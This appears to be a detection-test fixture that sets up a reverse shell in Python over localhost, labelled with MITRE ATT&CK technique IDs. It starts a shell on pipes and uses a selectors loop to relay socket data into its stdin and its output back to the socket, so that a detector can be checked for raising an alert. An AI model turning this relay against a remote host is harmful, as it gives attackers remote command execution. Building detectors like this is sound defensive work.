# technique: T1059.004 T1071.001 T1095
"""Reverse shell relayed through pipes with selectors (T1059.004).

The "full TTY-less relay" of Python implants like those in PowerSploit-style
Linux ports: the shell runs with pipes (stdin=PIPE, stdout=PIPE), and a
selectors.DefaultSelector loop copies bytes socket→shell stdin and shell
stdout→socket. The shell never holds the socket, unlike the dup2 one-liners.
The shell is started via os.popen-less subprocess.Popen(["sh"]) with no -i.

A good detector raises a critical/high alert: a shell's input is fed from a
network connection.
"""
import selectors, socket, subprocess, threading, time

lsn = socket.socket(); lsn.bind(("127.0.0.1", 0)); lsn.listen(1)
def serve():
    try:
        c, _ = lsn.accept(); c.settimeout(3)
        c.sendall(b"id\nexit\n")
        while c.recv(4096): pass
    except Exception: pass
threading.Thread(target=serve, daemon=True).start()
s = socket.create_connection(lsn.getsockname(), timeout=4)
sh = subprocess.Popen(["sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
sel = selectors.DefaultSelector()
sel.register(s, selectors.EVENT_READ, "net"); sel.register(sh.stdout, selectors.EVENT_READ, "sh")
end = time.time() + 5
try:
    while time.time() < end and sh.poll() is None:
        for key, _ in sel.select(0.2):
            if key.data == "net":
                d = s.recv(4096)
                if not d: raise EOFError
                sh.stdin.write(d); sh.stdin.flush()
            else:
                d = sh.stdout.read1(4096)
                if not d: raise EOFError
                s.sendall(d)
except (EOFError, OSError):
    pass
finally:
    if sh.poll() is None: sh.kill()
    sh.wait(); s.close()
